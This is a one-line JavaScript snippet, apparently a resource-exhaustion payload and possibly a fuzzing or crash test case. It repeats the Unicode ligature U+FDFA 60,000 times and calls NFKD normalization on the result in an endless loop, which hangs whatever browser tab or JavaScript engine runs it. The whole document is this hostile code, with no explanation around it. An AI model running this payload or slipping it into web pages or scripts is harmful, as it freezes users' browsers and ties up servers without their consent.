(function(){ var s='\ufdfa'.repeat(60000); for(;;) s.normalize('NFKD'); })()
